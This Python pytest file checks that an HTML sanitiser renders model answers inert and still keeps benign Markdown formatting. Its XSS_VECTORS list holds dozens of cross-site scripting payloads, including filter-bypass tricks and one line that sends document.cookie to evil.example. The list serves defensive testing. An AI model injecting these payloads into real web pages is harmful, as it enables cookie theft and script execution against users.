"""Safe display (R19): hostile answers render to inert HTML; benign Markdown survives."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from geo_pipeline.evidence.sanitise import (
    ALLOWED_ATTRIBUTE_VALUES,
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    render_answer,
)

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a href="https://ok.example" onmouseover=alert(1)>x</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    "[x](<javascript:alert(1)>)",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">',
    '<table><tr><td style="text-align:center;background:url(javascript:alert(1))">x</td></tr></table>',
    '<table><tr><th style="text-align: expression(alert(1))">x</th></tr></table>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<p>ok</p><script>document.location='https://evil.example/?c='+document.cookie</script>",
    '<a href="/relative/path">rel</a>',
    '<a href="//evil.example/x">proto-relative</a>',
    "<div onpointerenter=alert(1) id=x class=y>x</div>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<x onclick=alert(1)>custom element</x>",
    '<a href="https://ok.example" target="_blank">t</a>',
]

_SAFE_SCHEMES = {"http", "https", "mailto"}


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set())
        exact = ALLOWED_ATTRIBUTE_VALUES.get(tag, {})
        for name, value in attrs:
            if name == "rel" and tag == "a":
                continue
            if name in exact:
                if value not in exact[name]:
                    self.problems.append(f"{name}={value!r} on <{tag}>")
                continue
            if name not in allowed or name.startswith("on"):
                self.problems.append(f"attribute {name} on <{tag}>")
            if name == "href":
                scheme = urlsplit((value or "").strip()).scheme.lower()
                if scheme not in _SAFE_SCHEMES:
                    self.problems.append(f"href {value!r}")
        if tag == "a" and dict(attrs).get("href"):
            rel = (dict(attrs).get("rel") or "").split()
            if not {"nofollow", "noopener"} <= set(rel):
                self.problems.append("link without rel=nofollow noopener")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)


def test_corpus_is_large_enough():
    assert len(XSS_VECTORS) >= 40


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_hostile_input_renders_inert(vector):
    html = render_answer(vector)
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    assert inspector.problems == [], html
    lowered = html.lower()
    # Escaped code shown to the reader reads "&lt;script"; live markup would read "<script".
    for tag in ("<script", "<style", "<svg", "<math", "<iframe", "<img", "<object", "<embed"):
        assert tag not in lowered, html
    for marker in ("javascript:", "vbscript:", "data:", "onerror", "onload", "onclick"):
        assert _only_in_text(html, marker), html


def _only_in_text(html: str, marker: str) -> bool:
    """The marker occurs only in text nodes (escaped code shown to the reader), not attributes."""

    found: list[str] = []

    class Attrs(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.extend(f"{n}={v}" for n, v in attrs if marker in f"{n}={v or ''}".lower())

    Attrs().feed(html)
    return not found


def test_benign_markdown_survives():
    md = (
        "# 标题 Heading\n\n"
        "Acme 是**领先**的品牌，*值得*考虑。~~旧说法~~\n\n"
        "| 品牌 | 评分 |\n|:---|---:|\n| Acme | 9 |\n| 小米 | 8 |\n\n"
        "1. 第一\n2. second\n   - nested item\n\n"
        "> 引用 quote\n\n"
        "```python\nif a < b and c > d:\n    print('ok')\n```\n\n"
        "Inline `code` and a [link](https://example.com/a?b=1&c=2) and <mailto:hi@example.com>.\n"
    )
    html = render_answer(md)
    for fragment in (
        "<h1>标题 Heading</h1>",
        "<strong>领先</strong>",
        "<em>值得</em>",
        "<s>旧说法</s>",
        "<table>",
        '<th style="text-align:left">品牌</th>',  # Markdown alignment survives
        '<td style="text-align:right">9</td>',
        '<td style="text-align:left">小米</td>',
        "<ol>",
        "<li>第一</li>",
        "<ul>",
        "<blockquote>",
        '<code class="language-python">',
        "if a &lt; b and c &gt; d:",
        "<code>code</code>",
        'href="https://example.com/a?b=1&amp;c=2"',
        'href="mailto:hi@example.com"',
        'rel="nofollow noopener noreferrer"',
    ):
        assert fragment in html, (fragment, html)


def test_benign_inline_html_from_an_engine_keeps_its_formatting():
    html = render_answer("Price: <b>¥99</b><br>库存 <sup>1</sup>")
    assert "<b>¥99</b>" in html and "<br>" in html and "<sup>1</sup>" in html
